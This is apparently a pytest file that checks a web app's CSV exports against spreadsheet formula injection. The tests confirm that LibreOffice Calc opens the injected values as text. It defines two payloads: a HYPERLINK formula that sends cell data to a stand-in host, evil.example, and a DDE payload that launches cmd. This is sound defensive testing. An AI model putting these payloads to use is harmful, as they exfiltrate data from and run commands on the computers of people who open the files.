"""Formula payloads typed into notes and issue texts reach inspectors' spreadsheets as
text (issue 12): the pack's note file and the Norm or exception? file, written by bench,
imported by LibreOffice Calc with formula evaluation on, come back with no formula."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest

from bench.csvout import rows_to_bytes
from bench.exports import records
from bench.models import Role, ShareLevel, utcnow
from tests import factories, factories_sharing
from tests.factories_sharing import Scene
from tests.integration.test_exports import _released_network
from tests.unit.test_csv_in_libreoffice import open_in_calc

pytestmark = pytest.mark.libreoffice

NOTE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
ISSUE = '@SUM(1+1)*cmd|" /C calc"!A0'


def _no_formula(sheet: list[list[dict]], payload: str) -> None:
    cells = [cell for row in sheet for cell in row]
    assert [cell for cell in cells if cell["kind"] == "formula"] == []
    texts = [cell["value"] for cell in cells if cell["kind"] == "text"]
    assert any(payload in text for text in texts), texts[:20]


def test_a_formula_in_a_note_opens_as_text(app_context, sign_in_as, tmp_path):
    scene = Scene(sign_in_as)
    note = factories_sharing.note(scene.visit, NOTE)
    factories_sharing.share(note, ShareLevel.INSPECTOR)
    sections = {
        section.table.filename: section
        for section in records.sections(scene.user("inspector"), scene.visitor.id, utcnow())
    }
    notes = sections["visit-notes.csv"]
    data = b"".join(rows_to_bytes(notes.table.header, notes.rows))
    assert b"'=HYPERLINK" in data  # neutralised by the one writer
    sheets = open_in_calc(tmp_path, {"visit-notes.csv": data})
    _no_formula(sheets["visit-notes.csv"], NOTE)


def test_a_formula_in_an_issue_title_opens_as_text(sign_in_as, session, tmp_path):
    councils, _, _ = _released_network(
        session, [1, 2, 3, 4, 5, 6], published=datetime.now(UTC) - timedelta(days=3)
    )
    factories.issue_type(title=ISSUE)
    response = sign_in_as(Role.STAFF, councils[0]).get("/compare/export/norm-or-exception.csv")
    sheets = open_in_calc(tmp_path, {"norms.csv": response.get_data()})
    _no_formula(sheets["norms.csv"], ISSUE)
